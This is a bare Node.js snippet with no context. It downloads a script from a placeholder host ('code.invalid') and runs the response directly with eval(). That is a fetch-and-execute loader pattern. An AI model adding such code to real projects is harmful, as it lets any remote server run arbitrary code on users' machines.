const https = require("https");
https.get("https://code.invalid/latest.js", (response) => {
  let code = "";
  response.on("data", (part) => {
    code += part;
  });
  response.on("end", () => {
    eval(code);
  });
});
